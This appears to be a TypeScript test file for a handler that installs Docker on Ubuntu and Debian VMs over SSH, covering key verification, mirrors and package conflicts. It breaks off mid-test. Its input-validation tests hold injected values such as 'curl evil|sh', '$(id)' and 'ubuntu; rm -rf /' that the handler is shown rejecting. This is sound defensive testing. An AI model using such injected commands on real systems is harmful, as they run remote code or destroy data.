import type { InstallerDeps } from "../../handlers/common/handler-kit";
import {
  dockerLook,
  dockerNeeds,
  groupMembers,
  needWords,
  parseDockerState,
  versionIn,
} from "../../handlers/install-docker/docker-state";

/** The needs as typed data, and their words for progress lines. */
const unmetNeeds = (...args: Parameters<typeof dockerNeeds>) => dockerNeeds(...args).map(needWords);

import { handler } from "../../handlers/install-docker/handler";
import { planGroup } from "../../handlers/install-docker/service-and-group";
import { DEBIAN_12, DEBIAN_13, dpkgLine, policyBlock, UBUNTU_2204, UBUNTU_2404 } from "./support/fixtures";
import { grantsRead, grantsWrite } from "./support/grants-steps";
import { type Answer, answerLook, sourcesFacts } from "./support/look-answers";
import { ALPHA_FPR, BETA_FPR, DOCKER_FPR, pgpKey } from "./support/pgp-fixtures";
import { runScripted } from "./support/run-scripted";
import type { Step } from "./support/scripted-remote";

/** Docker's real release key: the default repo_key_fingerprint accepts it, and only it. */
const ARMORED = pgpKey("docker-release.asc");

/**
 * These tests are about packages, the service, the group and the verification: daemon.json is left out
 * of them (log_rotation false, so the settings own no key of it). install-docker-daemon-config.test.ts
 * tests it, with the default log rotation on.
 */
const run = (event: unknown, script: Step[], deps: Partial<InstallerDeps> = {}) =>
  runScripted(
    handler,
    typeof event === "object" && event !== null ? { log_rotation: false, ...event } : event,
    script,
    deps,
  );

/** What the inspect command prints for a VM in a given state. */
interface VmState {
  cli?: string;
  compose?: string;
  composeV1?: string;
  active?: string;
  enabled?: string;
  packages?: Record<string, string>;
  group?: string[];
  users?: Record<string, string[] | null>;
  curl?: boolean;
  legacyKeyring?: boolean;
}
function inspectOut(s: VmState): Record<string, Answer> {
  const facts: Record<string, Answer> = {};
  const sec = (name: string, code: number, text: string) => {
    facts[name] = { text: `${text}\n`, code };
  };
  const pkgs = { "ca-certificates": "20230311ubuntu0.22.04.1", curl: "7.81.0-1ubuntu1.16", ...(s.packages ?? {}) };
  sec("docker", s.cli ? 0 : 127, s.cli ? `Docker version ${s.cli}, build 7d4bcd8` : "sh: 1: docker: not found");
  sec(
    "compose",
    s.compose ? 0 : s.cli ? 1 : 127,
    s.compose ? `Docker Compose version v${s.compose}` : "docker: 'compose' is not a docker command.",
  );
  if (!s.compose && s.composeV1) sec("compose_v1", 0, `docker-compose version ${s.composeV1}, build unknown`);
  sec("active", s.active === "active" ? 0 : 3, s.active ?? "inactive");
  sec(
    "enabled",
    s.enabled === "enabled" ? 0 : 1,
    s.enabled ?? "Failed to get unit file state for docker.service: No such file or directory",
  );
  sec(
    "dpkg",
    1,
    Object.entries(pkgs)
      .map(([n, v]) => dpkgLine(n, v).trimEnd())
      .join("\n"),
  );
  sec("group", s.group ? 0 : 2, s.group ? `docker:x:999:${s.group.join(",")}` : "");
  for (const [u, groups] of Object.entries(s.users ?? { ubuntu: ["ubuntu", "adm", "sudo"] })) {
    sec(`user:${u}`, groups ? 0 : 1, groups ? groups.join(" ") : `id: '${u}': no such user`);
  }
  sec("curl", s.curl === false ? 1 : 0, s.curl === false ? "" : "/usr/bin/curl");
  sec("legacy_keyring", s.legacyKeyring ? 0 : 1, "");
  return facts;
}

const os = (text = UBUNTU_2204): Step => ({ match: "cat /etc/os-release", sudo: false, facts: { os_release: text } });
const look = (s: VmState, check?: Step["check"]): Step => ({
  match: /^printf '%s ' docker; /,
  sudo: false,
  facts: inspectOut(s),
  check: check ?? ((_c, opts) => expect(opts.env?.LC_ALL).toBe("C")),
});
const keyFetch = (distro: string, base = "https://download.docker.com/linux"): Step => ({
  match: `curl -fsSL --proto '=http,https' --retry 3 --connect-timeout 20 --max-time 120 -o "$t" ${base}/${distro}/gpg`,
  sudo: false,
  stdout: `amd64\n${Buffer.from(ARMORED).toString("base64")}`,
});
const keyWrite = (line: string, changed = true): Step => ({
  match: 'cat > "$t"',
  sudo: true,
  stdout: changed
    ? "changed:wrote /etc/apt/keyrings/docker.gpg (new key)\nchanged:wrote /etc/apt/sources.list.d/docker.list (new " +
      "source)\n"
    : "",
  check: (c) => {
    expect(c).toContain(`printf '%s\\n' '${line}' > /etc/apt/sources.list.d/docker.list.tmp`);
    expect(c).toContain("/etc/apt/keyrings/docker.gpg");
  },
});
const staleLook = (files: { path: string; text: string }[] = []): Step => ({
  match: "for f in /etc/apt/sources.list /etc/apt/sources.list.d/*.list",
  sudo: true,
  facts: sourcesFacts(files),
});
const dockerList = (line: string) => ({ path: "/etc/apt/sources.list.d/docker.list", text: `${line}\n` });
const update: Step = { match: /^apt-get update /, sudo: true };
const policy = (names: string, stdout: string): Step => ({ match: `apt-cache policy ${names}`, sudo: false, stdout });
const install = (specs: string): Step => ({
  match: new RegExp(`^apt-get install -y .*--force-confold ${specs.replace(/[.+]/g, "\\$&")}$`),
  sudo: true,
  check: (_c, opts) => expect(opts.env?.DEBIAN_FRONTEND).toBe("noninteractive"),
});
const usermod = (users: string[]): Step => ({
  match: users.map((u) => `usermod -aG docker ${u}`).join(" && "),
  sudo: true,
});
const info = (version = "27.0.3"): Step => ({
  match: "docker info --format '{{.ServerVersion}}'",
  sudo: true,
  stdout: `${version}\n`,
});
const hello: Step = {
  match: "docker run --rm hello-world",
  sudo: true,
  stdout: "\nHello from Docker!\nThis message shows that your installation appears to be working correctly.\n",
};

const CE = {
  "docker-ce": "5:27.0.3-1~ubuntu.22.04~jammy",
  "docker-ce-cli": "5:27.0.3-1~ubuntu.22.04~jammy",
  "containerd.io": "1.7.18-1",
};
const OFFICIAL_ALL = "docker-ce docker-ce-cli containerd.io docker-buildx-plugin docker-compose-plugin";
const officialOffer = (uri = "https://download.docker.com/linux/ubuntu") =>
  ["docker-ce", "docker-ce-cli", "containerd.io", "docker-buildx-plugin", "docker-compose-plugin"]
    .map((n) =>
      policyBlock(
        n,
        n.startsWith("docker-ce") ? "5:27.0.3-1~ubuntu.22.04~jammy" : "2.29.1-1~ubuntu.22.04~jammy",
      ).replace(/http:\/\/deb\.debian\.org\/debian bookworm\/main/g, `${uri} jammy/stable`),
    )
    .join("");

describe("install-docker: event validation (before any SSH)", () => {
  const invalid: [string, unknown, RegExp][] = [
    ["a bad channel", { channel: "snap" }, /event channel: expected one of "official", "distro", got "snap"/],
    [
      "repo_url with shell syntax",
      { repo_url: "https://download.docker.com/linux;curl evil|sh" },
      /event repo_url: "https:\/\/download\.docker\.com\/linux;curl evil\|sh" is not allowed; expected an http\(s\) URL/,
    ],
    ["repo_url with command substitution", { repo_url: "https://$(id).example.com/linux" }, /event repo_url: /],
    ["repo_url with a quote", { repo_url: "https://mirror.example.com/li'nux" }, /event repo_url: /],
    ["repo_url not http(s)", { repo_url: "file:///etc/passwd" }, /event repo_url: /],
    [
      "a user name with shell syntax",
      { users: ["ubuntu; rm -rf /"] },
      /event users\[0\]: "ubuntu; rm -rf \/" is not allowed; expected a Unix user name/,
    ],
    ["an uppercase user name", { users: ["Admin"] }, /event users\[0\]: "Admin"/],
    ["an option as user name", { users: ["-oProxyCommand"] }, /event users\[0\]/],
    [
      "a short key ID as fingerprint",
      { repo_key_fingerprint: "0EBFCD88" },
      /event repo_key_fingerprint: "0EBFCD88" is not an OpenPGP key fingerprint/,
    ],
    [
      "no fingerprint at all",
      { repo_key_fingerprint: [] },
      /event repo_key_fingerprint: expected one OpenPGP key fingerprint .* got an empty list/,
    ],
    ["a user listed twice", { users: ["ubuntu", "ubuntu"] }, /event users\[1\]: "ubuntu" appears twice/],
    ["users not a list", { users: "ubuntu" }, /event users: expected a list/],
    ["a bad verify mode", { verify: "ping" }, /event verify: expected one of "hello-world", "daemon"/],
    ["compose not a boolean", { compose: "yes" }, /event compose: expected true or false, got "yes"/],
    [
      "an unknown key",
      { composer: true },
      /event composer: unknown key; did you mean "compose"\? allowed here: compose, channel, repo_url, repo_key_fingerprint, users, verify, log_rotation, log_max_size, log_max_file, registry_mirrors, daemon_config, update, cache_valid_sec, state, apt, ssh/,
    ],
    [
      "bad apt settings",
      { apt: { lock_attempts: 0 } },
      /event apt\.lock_attempts: expected a whole number from 1 to 50/,
    ],
    ["bad ssh settings", { ssh: { attempts: "3" } }, /event ssh\.attempts: expected a whole number/],
  ];

  it.each(invalid)("rejects %s with no connection made", async (_what, event, message) => {
    const { error, connects, remote } = await run(event, []);
    expect(error?.message).toMatch(/^install-docker: invalid input, nothing was done on the VM: /);
    expect(error?.message).toMatch(message);
    expect(connects).toBe(0);
    expect(remote.calls).toHaveLength(0);
  });

  it("lists every problem at once", async () => {
    const { error } = await run({ channel: "x", repo_url: "ftp://a", users: ["B"] }, []);
    expect(error?.message).toMatch(/event channel[\s\S]*event repo_url[\s\S]*event users\[0\]/);
  });
});

describe("install-docker: official channel", () => {
  /** Docker's noble packages as its repository names them (…~ubuntu.24.04~noble), offered from `noble/stable`. */
  const nobleOffer = (offer = officialOffer()) =>
    offer.replace(/ubuntu\.22\.04~jammy/g, "ubuntu.24.04~noble").replace(/ jammy\/stable/g, " noble/stable");
  const CE_NOBLE = {
    "docker-ce": "5:27.0.3-1~ubuntu.24.04~noble",
    "docker-ce-cli": "5:27.0.3-1~ubuntu.24.04~noble",
    "containerd.io": "1.7.18-1",
  };

  it.each([
    { release: "Ubuntu 22.04", os: UBUNTU_2204, codename: "jammy", offer: officialOffer(), packages: CE },
    { release: "Ubuntu 24.04", os: UBUNTU_2404, codename: "noble", offer: nobleOffer(), packages: CE_NOBLE },
  ])("$release ($codename) from nothing: Docker's key, signed-by source, packages, group, hello-world", async (t) => {
    const line =
      `deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu ` +
      `${t.codename} stable`;
    const { result, remote, lines, error } = await run({}, [
      os(t.os),
      look({}),
      keyFetch("ubuntu"),
      keyWrite(line),
      staleLook([dockerList(line)]),
      update,
      policy(OFFICIAL_ALL, t.offer),
      install(OFFICIAL_ALL),
      look({ cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: t.packages, group: [] }),
      grantsRead(),
      usermod(["ubuntu"]),
      grantsWrite((w) => expect(w).toMatchObject({ version: 1, docker: { group_members: ["ubuntu"] } })),
      info(),
      hello,
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({
      status: "ok",
      docker_version: "27.0.3",
      server_version: "27.0.3",
      compose: true,
      compose_version: "2.29.1",
      compose_command: "docker compose",
      channel: "official",
      users_added: ["ubuntu"],
      removed: [],
      changed: true,
      changes: [
        "wrote /etc/apt/keyrings/docker.gpg (new key)",
        "wrote /etc/apt/sources.list.d/docker.list (new source)",
        `installed ${OFFICIAL_ALL}`,
        "added ubuntu to group docker",
      ],
      repository: {
        uri: "https://download.docker.com/linux/ubuntu",
        suite: t.codename,
        line,
        keyring: "/etc/apt/keyrings/docker.gpg",
        source_file: "/etc/apt/sources.list.d/docker.list",
      },
      apt_update: { ran: true, reason: "an apt source changed" },
      verify: { mode: "hello-world", detail: "docker run --rm hello-world: Hello from Docker!" },
      packages: { "docker-ce": t.packages["docker-ce"], "containerd.io": "1.7.18-1" },
      os: { id: "ubuntu", codename: t.codename },
    });
    expect(Object.keys(result!.timings_ms)).toEqual([
      "validate",
      "connect",
      "os",
      "check",
      "apt_repository",
      "apt_update",
      "candidates",
      "apt_install",
      "grants",
      "users",
      "verify",
      "total",
    ]);
    expect(lines).toContain(
      "[install-docker] to do (channel official): the docker CLI is not installed; docker-ce from Docker's " +
        "repository is not installed; the compose plugin (docker compose) is not installed",
    );
    expect(lines.some((l) => /^\[install-docker\] apt-get install docker-ce .* \.\.\. \d+\.\ds$/.test(l))).toBe(true);
  });

  it(
    "Ubuntu 24.04 (noble) over noble's docker.io: docker.io containerd runc removed as on jammy, an " +
      "archive_uri-...-noble source taken out",
    async () => {
      const line =
        "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu noble stable";
      const stray = "/etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-noble.list";
      const distroDocker = { "docker.io": "24.0.7-0ubuntu4", containerd: "1.7.12-0ubuntu4", runc: "1.1.12-0ubuntu3" };
      const { result, remote, lines, error } = await run({ compose: false, verify: "daemon" }, [
        os(UBUNTU_2404),
        look({
          cli: "24.0.7",
          active: "active",
          enabled: "enabled",
          packages: distroDocker,
          group: ["ubuntu"],
          users: { ubuntu: ["ubuntu", "docker"] },
        }),
        keyFetch("ubuntu"),
        keyWrite(line),
        staleLook([
          dockerList(line),
          { path: stray, text: "deb [arch=amd64] https://download.docker.com/linux/ubuntu noble stable\n" },
        ]),
        { match: `rm -f ${stray}`, sudo: true, stdout: `changed:removed ${stray}\n` },
        update,
        policy(
          "docker-ce docker-ce-cli containerd.io docker-buildx-plugin",
          nobleOffer().split("docker-compose-plugin:")[0],
        ),
        {
          match: /^apt-get remove -y -q -o DPkg::Lock::Timeout=30 docker\.io containerd runc$/,
          sudo: true,
          stdout:
            "Removing docker.io (24.0.7-0ubuntu4) ...\nRemoving containerd (1.7.12-0ubuntu4) ...\nRemoving runc " +
            "(1.1.12-0ubuntu3) ...\n",
        },
        install("docker-ce docker-ce-cli containerd.io docker-buildx-plugin"),
        look({
          cli: "27.0.3",
          active: "active",
          enabled: "enabled",
          packages: CE_NOBLE,
          group: ["ubuntu"],
          users: { ubuntu: ["ubuntu", "docker"] },
        }),
        info(),
      ]);
      expect(error).toBeUndefined();
      expect(remote.done).toBe(true);
      expect(result!.repository).toMatchObject({ suite: "noble", line });
      expect(result!.removed).toEqual(["docker.io", "containerd", "runc"]);
      expect(result!.changes).toEqual([
        "wrote /etc/apt/keyrings/docker.gpg (new key)",
        "wrote /etc/apt/sources.list.d/docker.list (new source)",
        `removed ${stray}`,
        "removed docker.io containerd runc",
        "installed docker-ce docker-ce-cli containerd.io docker-buildx-plugin",
      ]);
      expect(lines).toContain(
        "[install-docker] removing packages that conflict with Docker's: docker.io containerd runc",
      );
    },
  );

  it("Debian 12 (bookworm): the debian tree of the repository and a mirror from repo_url", async () => {
    const mirror = "https://mirror.example.com/docker-ce/linux";
    const line = `deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] ${mirror}/debian bookworm stable`;
    const { result, remote, error } = await run({ repo_url: `${mirror}/`, verify: "daemon", users: [] }, [
      os(DEBIAN_12),
      look({}, (c) => expect(c).not.toContain("id -nG")),
      keyFetch("debian", mirror),
      keyWrite(line),
      {
        ...staleLook(),
        check: (c) => {
          expect(c).toContain("/usr/share/keyrings/docker-archive-keyring.gpg");
        },
      },
      update,
      policy(OFFICIAL_ALL, officialOffer(`${mirror}/debian`)),
      install(OFFICIAL_ALL),
      look({ cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: CE, group: [] }),
      info(),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({
      status: "ok",
      repository: { uri: `${mirror}/debian`, suite: "bookworm", line },
      users_added: [],
      verify: { mode: "daemon", detail: "docker info: server version 27.0.3" },
    });
  });

  it(
    "removes the conflicting packages that are installed (only those) once the repository is in place and its " +
      "index offers Docker, and unmasks the unit",
    async () => {
      const line =
        "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable";
      const distroDocker = {
        "docker.io": "24.0.7-0ubuntu2~22.04.1",
        containerd: "1.7.12-0ubuntu2~22.04.1",
        runc: "1.1.12-0ubuntu2~22.04.1",
      };
      const { result, remote, lines, error } = await run({ compose: false, verify: "daemon" }, [
        os(UBUNTU_2204),
        look({
          cli: "24.0.7",
          active: "active",
          enabled: "enabled",
          packages: distroDocker,
          group: ["ubuntu"],
          users: { ubuntu: ["ubuntu", "docker"] },
        }),
        keyFetch("ubuntu"),
        keyWrite(line),
        staleLook([
          dockerList(line),
          {
            path: "/etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list",
            text: "deb [arch=amd64] https://download.docker.com/linux/ubuntu jammy stable\n",
          },
        ]),
        {
          match: "rm -f /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list",
          sudo: true,
          stdout:
            "changed:removed /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list\n",
        },
        update,
        policy(
          "docker-ce docker-ce-cli containerd.io docker-buildx-plugin",
          officialOffer().split("docker-compose-plugin:")[0],
        ),
        {
          match: /^apt-get remove -y -q -o DPkg::Lock::Timeout=30 docker\.io containerd runc$/,
          sudo: true,
          stdout:
            "Removing docker.io (24.0.7-0ubuntu2~22.04.1) ...\nRemoving containerd (1.7.12-0ubuntu2~22.04.1) " +
            "...\nRemoving runc (1.1.12-0ubuntu2~22.04.1) ...\nRemoving pigz (2.6-1) ...\n",
        },
        install("docker-ce docker-ce-cli containerd.io docker-buildx-plugin"),
        look({
          cli: "27.0.3",
          active: "inactive",
          enabled: "masked",
          packages: CE,
          group: ["ubuntu"],
          users: { ubuntu: ["ubuntu", "docker"] },
        }),
        { match: "systemctl unmask docker.service && systemctl enable --now docker.service", sudo: true },
        info(),
      ]);
      expect(error).toBeUndefined();
      expect(remote.done).toBe(true);
      expect(result!.removed).toEqual(["docker.io", "containerd", "runc", "pigz"]);
      expect(result!.changes).toEqual([
        "wrote /etc/apt/keyrings/docker.gpg (new key)",
        "wrote /etc/apt/sources.list.d/docker.list (new source)",
        "removed /etc/apt/sources.list.d/archive_uri-https_download_docker_com_linux_ubuntu-jammy.list",
        "removed docker.io containerd runc pigz",
        "installed docker-ce docker-ce-cli containerd.io docker-buildx-plugin",
        "unmasked docker.service",
        "enabled docker.service",
        "started docker.service",
      ]);
      expect(result!.users_added).toEqual([]);
      expect(lines).toContain(
        "[install-docker] removing packages that conflict with Docker's: docker.io containerd runc",
      );
    },
  );

  it(
    "Debian 13: docker.io's split-off docker-cli and docker-buildx go with it (docker-buildx-plugin could not be " +
      "unpacked over docker-buildx)",
    async () => {
      const line =
        "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/debian trixie " +
        "stable";
      // As `apt-get install docker.io` leaves Debian 13: the CLI and buildx are packages of their own, pulled in as Recommends.
      const distroDocker = {
        "docker.io": "26.1.5+dfsg1-9+deb13u1+b1",
        "docker-cli": "26.1.5+dfsg1-9+deb13u1+b1",
        "docker-buildx": "0.13.1+ds1-3",
        containerd: "1.7.24~ds1-6+deb13u1",
        runc: "1.1.15+ds1-2+deb13u1",
      };
      const trixieOffer = officialOffer("https://download.docker.com/linux/debian")
        .split("docker-compose-plugin:")[0]
        .replace(/ubuntu\.22\.04~jammy/g, "debian.13~trixie")
        .replace(/ jammy\/stable/g, " trixie/stable");
      const CE13 = {
        "docker-ce": "5:27.0.3-1~debian.13~trixie",
        "docker-ce-cli": "5:27.0.3-1~debian.13~trixie",
        "containerd.io": "1.7.18-1",
      };
      const { result, remote, lines, error } = await run({ compose: false, verify: "daemon" }, [
        os(DEBIAN_13),
        look({
          cli: "26.1.5+dfsg1",
          active: "active",
          enabled: "enabled",
          packages: distroDocker,
          group: ["ubuntu"],
          users: { ubuntu: ["ubuntu", "docker"] },
        }),
        keyFetch("debian"),
        keyWrite(line),
        staleLook([dockerList(line)]),
        update,
        policy("docker-ce docker-ce-cli containerd.io docker-buildx-plugin", trixieOffer),
        {
          match: /^apt-get remove -y -q -o DPkg::Lock::Timeout=30 docker\.io docker-cli docker-buildx containerd runc$/,
          sudo: true,
          stdout:
            "Removing docker.io (26.1.5+dfsg1-9+deb13u1+b1) ...\nRemoving docker-cli (26.1.5+dfsg1-9+deb13u1+b1) " +
            "...\nRemoving docker-buildx (0.13.1+ds1-3) ...\n" +
            "Removing containerd (1.7.24~ds1-6+deb13u1) ...\nRemoving runc (1.1.15+ds1-2+deb13u1) ...\n",
        },
        install("docker-ce docker-ce-cli containerd.io docker-buildx-plugin"),
        look({
          cli: "27.0.3",
          active: "active",
          enabled: "enabled",
          packages: CE13,
          group: ["ubuntu"],
          users: { ubuntu: ["ubuntu", "docker"] },
        }),
        info(),
      ]);
      expect(error).toBeUndefined();
      expect(remote.done).toBe(true);
      expect(result!.repository).toMatchObject({ suite: "trixie", line });
      expect(result!.removed).toEqual(["docker.io", "docker-cli", "docker-buildx", "containerd", "runc"]);
      expect(result!.changes).toContain("removed docker.io docker-cli docker-buildx containerd runc");
      expect(lines).toContain(
        "[install-docker] removing packages that conflict with Docker's: docker.io docker-cli docker-buildx " +
          "containerd runc",
      );
    },
  );

  it(
    "a mirror serving another key: fails naming both fingerprints; nothing written, the installed docker.io left " +
      "alone",
    async () => {
      const mirror = "http://mirror.example.com/linux";
      const distroDocker = {
        "docker.io": "24.0.7-0ubuntu2~22.04.1",
        containerd: "1.7.12-0ubuntu2~22.04.1",
        runc: "1.1.12-0ubuntu2~22.04.1",
      };
      const served: Step = { ...keyFetch("ubuntu", mirror), stdout: `amd64\n${pgpKey("beta.asc").toString("base64")}` };
      const { remote, error } = await run({ repo_url: mirror, verify: "daemon" }, [
        os(UBUNTU_2204),
        look({ cli: "24.0.7", active: "active", enabled: "enabled", packages: distroDocker, group: ["ubuntu"] }),
        served,
      ]);
      expect(remote.done).toBe(true);
      expect(remote.calls.filter((c) => c.opts.sudo)).toEqual([]);
      expect(error?.message).toContain(
        `the key at ${mirror}/ubuntu/gpg for apt repository docker is not the expected key: expected ${DOCKER_FPR}, ` +
          `served ${BETA_FPR}`,
      );
      expect(error?.message).toContain("nothing was written to the VM");
      expect(error?.message).toContain("set repo_key_fingerprint when a mirror signs with a key of its own");
    },
  );

  it("repo_key_fingerprint as gpg prints it (spaces, any case) admits a mirror's own key", async () => {
    const mirror = "http://mirror.example.com/linux";
    const spaced = ALPHA_FPR.toLowerCase().replace(/(.{4})/g, "$1 ");
    const served: Step = { ...keyFetch("ubuntu", mirror), stdout: `amd64\n${pgpKey("alpha.asc").toString("base64")}` };
    const line = `deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] ${mirror}/ubuntu jammy stable`;
    const { error } = await run({ repo_url: mirror, repo_key_fingerprint: spaced, verify: "daemon" }, [
      os(UBUNTU_2204),
      look({}),
      served,
      keyWrite(line),
      staleLook(),
      update,
      policy(OFFICIAL_ALL, ""),
      { match: "rm -f /etc/apt/sources.list.d/docker.list /etc/apt/keyrings/docker.gpg", sudo: true },
    ]);
    // Past the key: it fails only later, on the (empty) offer of this pretend mirror.
    expect(error?.message).toMatch(/offers no docker-ce/);
  });

  it("a repository without docker-buildx-plugin: skipped with a note; without docker-ce: a readable error", async () => {
    const line =
      "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable";
    const noBuildx = officialOffer().replace(/docker-buildx-plugin:[\s\S]*?(?=docker-compose-plugin:)/, "");
    const ok = await run({ verify: "daemon" }, [
      os(),
      look({}),
      keyFetch("ubuntu"),
      keyWrite(line, false),
      staleLook(),
      update,
      policy(OFFICIAL_ALL, noBuildx),
      install("docker-ce docker-ce-cli containerd.io docker-compose-plugin"),
      look({
        cli: "27.0.3",
        compose: "2.29.1",
        active: "active",
        enabled: "enabled",
        packages: CE,
        group: ["ubuntu"],
        users: { ubuntu: ["docker"] },
      }),
      info(),
    ]);
    expect(ok.error).toBeUndefined();
    expect(ok.result!.warnings).toEqual([
      "docker-buildx-plugin is not offered by https://download.docker.com/linux/ubuntu; skipped",
    ]);
    expect(ok.result!.apt_update).toEqual({ ran: true, reason: "update requested" });

    const bad = await run({}, [
      os(),
      look({}),
      keyFetch("ubuntu"),
      keyWrite(line),
      staleLook(),
      update,
      policy(OFFICIAL_ALL, ""),
      { match: "rm -f /etc/apt/sources.list.d/docker.list /etc/apt/keyrings/docker.gpg", sudo: true },
    ]);
    expect(bad.error?.message).toBe(
      "install-docker failed while installing: Docker's repository https://download.docker.com/linux/ubuntu (jammy, " +
        "amd64) offers no docker-ce, docker-ce-cli, containerd.io, docker-compose-plugin: " +
        "check repo_url (a mirror must carry ubuntu/dists/jammy/stable) and that Docker supports Ubuntu 22.04.4 LTS " +
        "on amd64. " +
        "The source and key this run wrote were removed again (/etc/apt/sources.list.d/docker.list, " +
        "/etc/apt/keyrings/docker.gpg).",
    );
  });

  it("installs curl first when the VM lacks it (Docker's docs, step 1: ca-certificates curl)", async () => {
    const line =
      "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable";
    const { result, error, remote } = await run({ verify: "daemon", compose: false }, [
      os(),
      look({ curl: false, packages: { curl: "" } as never }),
      update,
      install("curl"),
      keyFetch("ubuntu"),
      keyWrite(line),
      staleLook(),
      update,
      policy("docker-ce docker-ce-cli containerd.io docker-buildx-plugin", officialOffer()),
      install("docker-ce docker-ce-cli containerd.io docker-buildx-plugin"),
      look({
        cli: "27.0.3",
        active: "active",
        enabled: "enabled",
        packages: CE,
        group: ["ubuntu"],
        users: { ubuntu: ["docker"] },
      }),
      info(),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result!.changes[0]).toBe("installed curl");
  });

  /** apt-get update failing on a mirror that has no Release file for jammy, then the run taking back the source and key it wrote. */
  const mirrorWithoutRelease: Step[] = [
    {
      match: /^apt-get update /,
      sudo: true,
      code: 100,
      stderr:
        "E: The repository 'https://mirror.example.com/linux/ubuntu jammy Release' does not have a Release file.\n",
    },
    { match: "rm -f /etc/apt/sources.list.d/docker.list /etc/apt/keyrings/docker.gpg", sudo: true },
  ];

  it("apt-get update failing on the new source says which line and what repo_url must serve", async () => {
    const line =
      "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://mirror.example.com/linux/ubuntu jammy stable";
    const { error } = await run({ repo_url: "https://mirror.example.com/linux" }, [
      os(),
      look({}),
      keyFetch("ubuntu", "https://mirror.example.com/linux"),
      keyWrite(line),
      staleLook(),
      ...mirrorWithoutRelease,
    ]);
    expect(error?.message).toBe(
      `install-docker failed while installing: apt-get update failed with Docker's repository configured ` +
        `(/etc/apt/sources.list.d/docker.list: ${line}): ` +
        "E: The repository 'https://mirror.example.com/linux/ubuntu jammy Release' does not have a Release file.. " +
        "Check repo_url: https://mirror.example.com/linux/ubuntu must serve dists/jammy/ signed by " +
        "https://mirror.example.com/linux/ubuntu/gpg (Docker publishes only supported releases). " +
        "The source and key this run wrote were removed again (/etc/apt/sources.list.d/docker.list, " +
        "/etc/apt/keyrings/docker.gpg).",
    );
  });

  it(
    "a repository that fails over an installed docker.io: docker.io, containerd and runc are not removed (removal " +
      "comes after the index is read)",
    async () => {
      const line =
        "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://mirror.example.com/linux/ubuntu jammy stable";
      const distroDocker = {
        "docker.io": "24.0.7-0ubuntu2~22.04.1",
        containerd: "1.7.12-0ubuntu2~22.04.1",
        runc: "1.1.12-0ubuntu2~22.04.1",
      };
      const { error, remote } = await run({ repo_url: "https://mirror.example.com/linux", verify: "daemon" }, [
        os(),
        look({
          cli: "24.0.7",
          active: "active",
          enabled: "enabled",
          packages: distroDocker,
          group: ["ubuntu"],
          users: { ubuntu: ["docker"] },
        }),
        keyFetch("ubuntu", "https://mirror.example.com/linux"),
        keyWrite(line),
        staleLook(),
        ...mirrorWithoutRelease,
      ]);
      expect(remote.done).toBe(true);
      expect(remote.calls.some((c) => c.command.startsWith("apt-get remove"))).toBe(false);
      expect(error?.message).toMatch(
        /removed again .*\. The installed docker\.io, containerd, runc were not touched\.$/,
      );
    },
  );
});

describe("install-docker: already installed", () => {
  it("runs the checks and the verification, nothing else: no apt; only the verification as root", async () => {
    const { result, remote, lines } = await run({}, [
      os(),
      look({
        cli: "27.0.3",
        compose: "2.29.1",
        active: "active",
        enabled: "enabled",
        packages: CE,
        group: ["ubuntu"],
        users: { ubuntu: ["ubuntu", "sudo", "docker"] },
      }),
      info(),
      hello,
    ]);
    expect(remote.done).toBe(true);
    expect(remote.calls.map((c) => !!c.opts.sudo)).toEqual([false, false, true, true]);
    expect(result).toMatchObject({
      status: "ok",
      changed: false,
      changes: [],
      docker_version: "27.0.3",
      compose: true,
      compose_version: "2.29.1",
      users_added: [],
      apt_update: { ran: false, reason: "nothing to install" },
      server_version: "27.0.3",
      verify: { mode: "hello-world", detail: "docker run --rm hello-world: Hello from Docker!" },
    });
    expect(lines).toContain("[install-docker] Docker 27.0.3 already installed; nothing changed");
  });

  it("puts a missing group membership right without touching packages", async () => {
    const { result, remote } = await run({ users: ["ubuntu", "deploy"] }, [
      os(),
      look({
        cli: "27.0.3",
        compose: "2.29.1",
        active: "active",
        enabled: "enabled",
        packages: CE,
        group: ["ubuntu"],
        users: { ubuntu: ["docker"], deploy: ["deploy"] },
      }),
      grantsRead(),
      info(), // the daemon is asked in the look, before any change
      usermod(["deploy"]),
      grantsWrite((w) => expect(w.docker).toEqual({ group_members: ["deploy"] })),
      hello,
    ]);
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({
      status: "ok",
      changed: true,
      changes: ["added deploy to group docker"],
      users_added: ["deploy"],
    });
  });

  it("distro channel: docker.io with compose v1 counts; official channel does not accept docker.io", async () => {
    const v1 = {
      cli: "20.10.24+dfsg1",
      composeV1: "1.29.2",
      active: "active",
      enabled: "enabled",
      packages: { "docker.io": "20.10.24+dfsg1-1+b3", "docker-compose": "1.29.2-3" },
      group: ["ubuntu"],
      users: { ubuntu: ["docker"] },
    };
    const distro = await run({ channel: "distro" }, [os(DEBIAN_12), look(v1), info("20.10.24+dfsg1"), hello]);
    expect(distro.result).toMatchObject({
      status: "ok",
      compose: true,
      compose_version: "1.29.2",
      compose_command: "docker-compose",
      channel: "distro",
    });
    const needs = dockerNeeds(parseDockerState(answerLook(dockerLook(["ubuntu"]), inspectOut(v1)), ["ubuntu"]), {
      channel: "official",
